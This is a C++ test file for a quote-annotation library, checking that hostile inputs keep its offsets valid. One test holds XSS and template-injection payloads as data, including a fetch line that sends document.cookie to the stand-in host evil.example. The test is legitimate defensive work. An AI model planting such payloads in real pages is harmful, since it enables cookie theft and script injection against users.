// Hostile input (issue 9): journalists paste anything. Every input here returns
// a result whose offsets are valid UTF-16 indices, in order, that never split a
// surrogate pair (annotation_invariants.h); each case also states what the
// result should be.
#include <catch2/catch.hpp>

#include <algorithm>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <string>
#include <tuple>
#include <vector>

#include "annotation_invariants.h"
#include "dixit/dixit.h"
#include "test_support.h"

using namespace dixit;
using dixit::test::u16;
using dixit::test::u8;

namespace {

Annotations annotate_checked(std::u16string_view text, const std::string& lang) {
  Annotations result = annotate(text, Options{lang});
  for (const auto& problem : dixit::test::invariant_violations(text, result)) {
    INFO(problem);
    CHECK(false);
  }
  // The JSON output, too, must hold whatever the text was (valid UTF-8 strings only).
  CHECK_NOTHROW(to_json(result).dump());
  return result;
}

std::vector<std::string> quoted_texts(std::u16string_view text, const Annotations& result) {
  std::vector<std::string> out;
  for (const auto& quote : result.quotes) out.push_back(u8(text.substr(quote.span.start, quote.span.size())));
  return out;
}

std::u16string repeated(std::u16string_view unit, size_t times) {
  std::u16string out;
  out.reserve(unit.size() * times);
  for (size_t i = 0; i < times; ++i) out += unit;
  return out;
}

std::u16string seed_article() { return u16(dixit::test::seed_gold()["text"].get<std::string>()); }

const std::vector<std::string> kLanguages = {"auto", "fr", "en"};

}  // namespace

TEST_CASE("hostile: empty and whitespace-only texts give empty lists", "[hostile]") {
  const std::u16string whitespace = u" \t\n\r\n\v\f\u00A0\u2009\u202F\u3000\u2028\u2029   ";
  for (const auto& lang : kLanguages) {
    for (std::u16string_view text : {std::u16string_view(), std::u16string_view(whitespace)}) {
      INFO("lang " << lang << ", " << text.size() << " units");
      auto result = annotate_checked(text, lang);
      CHECK(result.quotes.empty());
      CHECK(result.amounts.empty());
      CHECK(result.speakers.empty());
    }
  }
}

TEST_CASE("hostile: lone surrogates neither hide a quote nor shift its offsets", "[hostile]") {
  const std::u16string quote = u"« oui »";
  for (std::u16string lone : {std::u16string(1, char16_t(0xD800)), std::u16string(1, char16_t(0xDBFF)),
                              std::u16string(1, char16_t(0xDC00)), std::u16string(1, char16_t(0xDFFF)),
                              std::u16string{char16_t(0xDC00), char16_t(0xD800)}}) {  // a pair in the wrong order
    const std::u16string text = lone + u"Il a dit " + lone + u" " + quote + u", a-t-il ajouté." + lone;
    auto result = annotate_checked(text, "fr");
    REQUIRE(result.quotes.size() == 1);
    CHECK(text.substr(result.quotes[0].span.start, result.quotes[0].span.size()) == quote);
  }
  // Surrogates only, in every arrangement, in every language.
  std::u16string soup;
  for (char16_t unit : {0xD800, 0xD800, 0xDC00, 0xDC00, 0xDBFF, 0x0041, 0xDFFF, 0xD83D, 0xDE42, 0xD83D})
    soup += unit;
  for (const auto& lang : kLanguages) CHECK(annotate_checked(repeated(soup, 1000), lang).quotes.empty());
}

TEST_CASE("hostile: NUL characters are ordinary characters", "[hostile]") {
  std::u16string text = u"Il a dit « oui non », a-t-il ajouté.";
  const std::u16string expected_quote = std::u16string(u"« oui") + u'\0' + u"non »";
  text.replace(text.find(u"« oui non »"), expected_quote.size(), expected_quote);
  text = u'\0' + text + u'\0';
  auto result = annotate_checked(text, "fr");
  REQUIRE(result.quotes.size() == 1);
  CHECK(text.substr(result.quotes[0].span.start, result.quotes[0].span.size()) == expected_quote);

  for (const auto& lang : kLanguages) CHECK(annotate_checked(std::u16string(100'000, u'\0'), lang).quotes.empty());
}

TEST_CASE("hostile: a 50 MB text is annotated natively, like its parts", "[hostile][large]") {
  // The seed article repeated into 50 MB of UTF-8: each copy is its own
  // paragraph, so the whole has exactly the copies' quotes.
  const std::u16string article = seed_article() + u"\n\n";
  const size_t copies = 50'000'000 / u8(article).size() + 1;
  const auto one = annotate_checked(article, "fr");
  const std::u16string text = repeated(article, copies);
  const auto all = annotate_checked(text, "fr");
  CHECK(all.quotes.size() == copies * one.quotes.size());
  CHECK(all.amounts.size() == copies * one.amounts.size());
  REQUIRE(!all.quotes.empty());
  CHECK(all.quotes.back().span.start == (copies - 1) * article.size() + one.quotes.back().span.start);
}

TEST_CASE("hostile: 100,000 quote marks", "[hostile]") {
  // Each mark in one language, in turn: quote finding does not depend on the
  // language, and this keeps the case affordable under the sanitizers.
  size_t turn = 0;
  for (std::u16string_view mark : {u"\"", u"«", u"»", u"“", u"”", u"'", u"‹", u"„", u"« ", u"\"»“'”«"}) {
    const std::u16string text = repeated(mark, 100'000);
    const std::string& lang = kLanguages[turn++ % kLanguages.size()];
    INFO("lang " << lang << ", mark " << u8(mark));
    auto result = annotate_checked(text, lang);
    // Every quote needs an opening and a closing mark of its own.
    CHECK(result.quotes.size() <= 50'000 * mark.size());
  }
}

TEST_CASE("hostile: 10,000 nested quotes", "[hostile]") {
  const size_t depth = 10'000;
  SECTION("French guillemets, then English curly quotes") {
    for (auto [cue, open, close, lang] :
         {std::tuple{u"Il a dit ", u"« ", u" »", "fr"}, std::tuple{u"He said ", u"“", u"”", "en"}}) {
      const std::u16string text = cue + repeated(open, depth) + u"oui" + repeated(close, depth) + u".";
      auto result = annotate_checked(text, lang);
      CHECK(!result.quotes.empty());
      CHECK(result.quotes.size() <= depth);
    }
  }
  SECTION("alternating marks") {
    const std::u16string text = repeated(u"« “", depth / 2) + u"oui" + repeated(u"” »", depth / 2);
    for (const auto& lang : kLanguages) annotate_checked(text, lang);
  }
}

TEST_CASE("hostile: 1 MB without a space or a period", "[hostile]") {
  const size_t size = 1 << 20;
  for (std::u16string_view unit : {u"a", u"7", u"€", u"é", u"🙂", u"a-", u"1,", u"«x»"}) {
    const std::u16string text = repeated(unit, size / unit.size());
    for (const auto& lang : kLanguages) {
      INFO("lang " << lang << ", unit " << u8(unit));
      auto result = annotate_checked(text, lang);
      if (unit != u"«x»") CHECK(result.quotes.empty());
    }
  }
}

TEST_CASE("hostile: right-to-left text and bidi controls", "[hostile]") {
  // RLE, PDF, RLO, LRO, RLI, LRI, FSI, PDI, RLM, LRM, ALM around and inside the quote.
  const std::u16string controls = u"\u202B\u202C\u202E\u202D\u2067\u2066\u2068\u2069\u200F\u200E\u061C";
  const std::u16string quote = u"« \u202Bשלום עולם\u202C \u2067مرحبا\u2069 »";
  const std::u16string text = controls + u"Il a dit " + quote + u", a-t-il ajouté \u202Eeuqilbup\u202C." + controls;
  auto result = annotate_checked(text, "fr");
  REQUIRE(result.quotes.size() == 1);
  CHECK(text.substr(result.quotes[0].span.start, result.quotes[0].span.size()) == quote);

  // Hebrew and Arabic prose with their own punctuation, in every language.
  const std::u16string rtl = repeated(u"הוא אמר \"שלום\" ועזב. قال \"مرحبا\" وغادر، ١٢٣٤ ريال. \u202E\u2066", 2000);
  for (const auto& lang : kLanguages) annotate_checked(rtl, lang);
}

TEST_CASE("hostile: zero-width joiners inside names", "[hostile]") {
  const std::u16string name = u"Jean\u200D-Luc Mé\u200Dlen\u200Cchon";
  const std::u16string text = u"« Nous partons », a déclaré " + name + u". Selon " + name + u", « rien ne change ».";
  const auto name_start = static_cast<uint32_t>(text.find(name));
  const Span name_span{name_start, name_start + static_cast<uint32_t>(name.size())};
  for (const auto& lang : {std::string("fr"), std::string("auto")}) {
    auto result = annotate_checked(text, lang);
    CHECK(result.quotes.size() == 2);
    // A mention of this speaker covers the whole name: a joiner does not cut it.
    for (const auto& speaker : result.speakers)
      for (const auto& mention : speaker.mentions)
        if (mention.overlaps(name_span)) CHECK((mention.start <= name_span.start && name_span.end <= mention.end));
  }
}

TEST_CASE("hostile: CRLF and CR line ends give the same quotes as LF", "[hostile]") {
  auto with_line_ends = [](const std::u16string& text, std::u16string_view line_end) {
    std::u16string out;
    for (char16_t c : text) {
      if (c == u'\n') out += line_end;
      else out += c;
    }
    return out;
  };
  const std::u16string article = seed_article() + u"\n« Non », a-t-elle répondu.\n\n« Jamais »,\ndit-il.\n";
  const auto lf = annotate_checked(article, "fr");
  REQUIRE(!lf.quotes.empty());
  for (std::u16string_view line_end : {u"\r\n", u"\r", u"\r\r\n"}) {
    const std::u16string text = with_line_ends(article, line_end);
    INFO("line end of " << line_end.size() << " units");
    CHECK(quoted_texts(text, annotate_checked(text, "fr")).size() == lf.quotes.size());
    // Same quotes, once line ends are read back as LF.
    std::vector<std::string> normalised;
    for (auto quoted : quoted_texts(text, annotate_checked(text, "fr"))) {
      std::string lf_only;
      for (size_t i = 0; i < quoted.size(); ++i) {
        if (quoted[i] == '\r') {
          while (i + 1 < quoted.size() && quoted[i + 1] == '\r') ++i;
          if (i + 1 < quoted.size() && quoted[i + 1] == '\n') ++i;
          lf_only += '\n';
        } else {
          lf_only += quoted[i];
        }
      }
      normalised.push_back(lf_only);
    }
    CHECK(normalised == quoted_texts(article, lf));
  }
}

TEST_CASE("hostile: HTML and JavaScript payloads are plain text", "[hostile]") {
  const std::vector<std::u16string> payloads = {
      u"<script>alert(1)</script>",
      u"<img src=x onerror=\"alert('x')\">",
      u"<a href=\"javascript:alert(document.cookie)\">lien</a>",
      u"<svg/onload=alert(1)><foreignObject>",
      u"&lt;script&gt;&#x3C;/script&#62;&amp;&#0;&#xD800;&bogus",
      u"\"; fetch('https://evil.example/'+document.cookie); //",
      u"</textarea><style>*{display:none}</style><!--",
      u"${alert(1)}{{constructor.constructor('alert(1)')()}}",
  };
  for (const auto& payload : payloads) {
    INFO(u8(payload));
    const std::u16string quote = u"« " + payload + u" »";
    const std::u16string text = payload + u" Il a dit " + quote + u", a-t-il ajouté. " + payload;
    // Quote marks inside the payload may make quotes of their own; the guillemets still make theirs.
    const auto quoted = quoted_texts(text, annotate_checked(text, "fr"));
    CHECK(std::find(quoted.begin(), quoted.end(), u8(quote)) != quoted.end());
  }
}

// Inputs that scripts/fuzz found, minimized: each once broke an invariant.
TEST_CASE("hostile: fuzz findings", "[hostile]") {
  const std::vector<std::u16string> findings = {
      // An according-to cue whose content, cut at the next cue, was nothing but
      // commas: an empty (once reversed) quote span.
      u"Selon,,a révélé",
      u"Selon le quotidien, , a révélé Le Figaro mercredi.",
  };
  for (const auto& text : findings) {
    INFO(u8(text));
    for (const auto& lang : kLanguages) annotate_checked(text, lang);
  }
}

// Inputs the fuzz harnesses crashed on, kept as they wrote them
// (tests/fuzz/regressions/<harness>/): a language byte, then UTF-16LE units
// (annotate) or UTF-8 bytes (json), as in tests/fuzz/*_fuzz.cpp.
TEST_CASE("hostile: fuzz crash inputs, in each harness's format", "[hostile]") {
  size_t inputs = 0;
  for (const char* harness : {"annotate", "json"}) {
    const auto folder = std::filesystem::path(DIXIT_SOURCE_DIR) / "tests/fuzz/regressions" / harness;
    for (const auto& entry : std::filesystem::directory_iterator(folder)) {
      std::ifstream in(entry.path(), std::ios::binary);
      const std::string bytes((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
      if (bytes.empty()) continue;
      const std::string lang = kLanguages[static_cast<unsigned char>(bytes[0]) % 3];
      std::u16string text;
      if (std::string_view(harness) == "annotate") {
        text.resize((bytes.size() - 1) / sizeof(char16_t));
        std::memcpy(text.data(), bytes.data() + 1, text.size() * sizeof(char16_t));
      } else {
        text = u16(bytes.substr(1));
      }
      INFO(entry.path().string());
      annotate_checked(text, lang);
      ++inputs;
    }
  }
  CHECK(inputs >= 2);
}
